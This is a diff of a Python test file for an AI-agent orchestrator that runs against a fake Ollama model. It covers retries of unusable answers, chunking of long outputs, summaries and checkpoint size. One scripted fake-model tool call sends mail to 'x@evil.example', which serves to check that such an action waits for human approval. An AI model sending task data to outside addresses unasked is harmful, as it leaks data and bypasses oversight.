@@ -15,6 +15,7 @@ import pytest
 from orchestrator_job.delegation import talk
 from orchestrator_job.delegation import wiring as delegation
 from tests.fakes.ollama import process
+from tests.fakes.ollama.server import generation
 from tests.orchestrator_job import job, knowledge, recording
 from tests.orchestrator_job.delegation import sources
 from tests.orchestrator_job.delegation.test_runs import MAIL, SYNTHESIS, decided, planned
@@ -77,6 +78,12 @@ def worked(task: job.Job, outside: sources.Sources) -> job.Job:
         JERVIS_SOURCES_URL=outside.url, JERVIS_MAIL_CONNECTION="office", JERVIS_RUN_TOKEN_FILE=str(token)
     )
     return task
+
+
+def parts(text: str, window: int = delegation.WINDOW) -> list[str]:
+    """What an agent's model answers that is asked on until the whole text is there: each answer ends at its bound."""
+    pieces = generation.tokens(text)
+    return ["".join(pieces[start:]) for start in range(0, len(pieces), window // 4)]
 
 
 def asked(fake: process.Fake) -> list[str]:
@@ -176,8 +183,9 @@ async def test_something_new_is_designed_before_its_goals(
 async def test_a_design_that_no_model_makes_leaves_the_goals(
     worked: job.Job, store: job.Store, fake: process.Fake
 ) -> None:
+    long = {"design": " ".join(f"Table {n}." for n in range(3000))}
     script: dict[str, list[Any]] = {
-        DESIGN: [{"design": "  "}, {"design": "x" * 20_001}, "Three tables."],
+        DESIGN: [{"design": "  "}, long, "Three tables."],
         GOALS: [{"goals": [goal("Tables")]}],
         STEPS: [steps("Write down the tables.")],
         LEGACY: [report("The tables are people, projects and hours.")],
@@ -187,10 +195,17 @@ async def test_a_design_that_no_model_makes_leaves_the_goals(
     ended = await worked.run()
     assert (ended.message["exitReason"], ended.message["summary"][:10]) == ("Answered", "The tables"), ended
     assert asked(fake) == [*[DESIGN] * 3, GOALS, STEPS, LEGACY]
-    corrected = [one["body"]["messages"][-1]["content"] for one in fake.requests(tag=DESIGN)[1:]]
-    assert ["at least 1 character" in corrected[0], "write a shorter one" in corrected[1]] == [True, True]
+    problems = [one["problem"] for one in ended.lines if one["event"] == "answer.unusable"]
+    whys = ("at least 1 character", "it was cut off after", "no JSON object of the shape")
+    assert [why in each for why, each in zip(whys, problems, strict=True)] == [True] * 3, problems
+    # The second try has what was wrong, the last one is the smaller question.
+    talks = [one["body"]["messages"] for one in fake.requests(tag=DESIGN)]
+    assert [len(each) for each in talks] == [2, 4, 2]
+    assert problems[0] in talks[1][-1]["content"]
     # Nothing of what could not be used goes on.
-    assert not any("Three tables." in one or "xxx" in one for one in (*prompts(fake, GOALS), *prompts(fake, LEGACY)))
+    assert not any(
+        "Three tables." in one or "Table 7." in one for one in (*prompts(fake, GOALS), *prompts(fake, LEGACY))
+    )
     epic_kept = kept(store, worked)["r1.epic"]
     assert (epic_kept["text"].startswith("1. Tables:"), epic_kept["summary"]) == (True, None)
     [result] = store.all("task_results", _id=worked.uid)
@@ -449,11 +464,12 @@ async def test_long_results_are_summarized_for_later_goals_and_stay_whole(
         *(calls(("read_step", {"step": "r1.g1", "start": start})) for start in starts),
         calls(("read_step", {"step": "r1.d7"})),
     ]
+    first = parts(report(long))
     fake.set_script(
         {
             GOALS: [{"goals": [goal("Look"), goal("Say", 1)]}],
             STEPS: [steps("Look at all disks."), steps("Say which are slow.")],
-            LEGACY: [report(long), *reads, report("All are slow.")],
+            LEGACY: [*first, *reads, report("All are slow.")],
             CONTEXT: ["Forty findings, first part.", "Forty findings, second part."],
             SYNTHESIS: [job.reply(answer="All are slow [1].")],
         }
@@ -462,22 +478,24 @@ async def test_long_results_are_summarized_for_later_goals_and_stay_whole(
     ended = await worked.run()
     assert ended.message["exitReason"] == "Answered", ended
     # Two parts, which are the whole text; the goal's summary is that of its one step.
-    assert asked(fake) == [GOALS, STEPS, LEGACY, CONTEXT, CONTEXT, STEPS, *[LEGACY] * (len(reads) + 1), SYNTHESIS]
-    parts = "".join(prompts(fake, CONTEXT))
-    assert all(f"Finding {n}:" in parts for n in range(40))
+    looking, saying = [LEGACY] * len(first), [LEGACY] * (len(reads) + 1)
+    assert asked(fake) == [GOALS, STEPS, *looking, CONTEXT, CONTEXT, STEPS, *saying, SYNTHESIS]
+    summarized = "".join(prompts(fake, CONTEXT))
+    assert all(f"Finding {n}:" in summarized for n in range(40))
     found = kept(store, worked)
     assert found["r1.d1"]["text"] == long
     assert found["r1.d1"]["summary"] == "Forty findings, first part.\nForty findings, second part."
-    assert "Forty findings, first part." in prompts(fake, LEGACY)[1]
-    assert "Finding 7:" not in prompts(fake, LEGACY)[1]
-    assert f'[A summary of {len(long)} characters; read them with read_step, step "r1.g1".]' in prompts(fake, LEGACY)[1]
+    told = prompts(fake, LEGACY)[len(first)]
+    assert "Forty findings, first part." in told
+    assert "Finding 7:" not in told
+    assert f'[A summary of {len(long)} characters; read them with read_step, step "r1.g1".]' in told
     # The planner has no tools, so that nothing names one to it.
     assert "read_step" not in "".join((*prompts(fake, STEPS), *prompts(fake, GOALS)))
     bodies = [one["body"] for one in fake.requests(tag=LEGACY)]
     offers = ["read_step" in [each["function"]["name"] for each in one["tools"]] for one in bodies]
-    assert offers == [False, *[True] * (len(reads) + 1)], "there is nothing to be read before the first step"
+    assert offers == [*[False] * len(first), *[True] * len(saying)], "there is nothing to be read before the first step"
     # The latest answer of each talk, as the ones before give way to it.
-    answers = [str(one["messages"][-1]["content"]) for one in bodies[2:]]
+    answers = [str(one["messages"][-1]["content"]) for one in bodies[len(first) + 1 :]]
     good = [one.removeprefix('<document source="read_step">\n').removesuffix("\n</document>") for one in answers[:-1]]
     assert "".join(one.rpartition("\n[Characters ")[0] for one in good) == long
     assert len(good) == len(starts) > 1
@@ -485,19 +503,20 @@ async def test_long_results_are_summarized_for_later_goals_and_stay_whole(
 
 
 async def test_a_state_of_an_epic_is_small(worked: job.Job, store: job.Store, fake: process.Fake) -> None:
-    long = "x" * 300_000
+    window = 65_536
+    long = " ".join(f"{number:05}" for number in range(50_000))
     done = [report(f"Part {n} is done.") for n in range(33)]
     foreign = calls(("send_mail", {**MAIL, "to": ["x@evil.example"]}))
     fake.set_script(
         {
             GOALS: [{"goals": [goal(f"Goal {n} " + "of the migration " * 10) for n in range(7)]}],
             STEPS: [steps(*(f"Step {n} " + "y" * 600 for n in range(5)))] * 7,
-            LEGACY: [report(long), *done, foreign],
+            LEGACY: [*parts(report(long), window), *done, foreign],
             CONTEXT: ["It is all x."] * 100,
         }
     )
     store.remember(worked.memory(content=EPIC))
-    held = await worked.run(JERVIS_MAX_LLM_CALLS="200")
+    held = await worked.run(JERVIS_MAX_LLM_CALLS="200", JERVIS_NUM_CTX=str(window))
     # The last of 35 steps waits for a person: the whole state of the round is in the checkpoint.
     assert held.message["exitReason"] == "NeedsApproval", held
     assert len(store.all("delegation_metrics", taskUid=worked.uid)) == 34
@@ -536,5 +555,5 @@ async def test_an_answer_alone_is_to_say_that_nothing_was_stored(
     store.remember(task.memory(type="UserTask", content=COFFEE, budget={"maxDelegations": 0}))
     assert (await task.run()).message["exitReason"] == "Answered"
     [asked] = fake.requests(path="/api/chat")
-    assert "say plainly that nothing was" in asked["body"]["messages"][0]["content"]
+    assert "say plainly that nothing was stored." in " ".join(asked["body"]["messages"][0]["content"].split())
     assert known.remembered == []
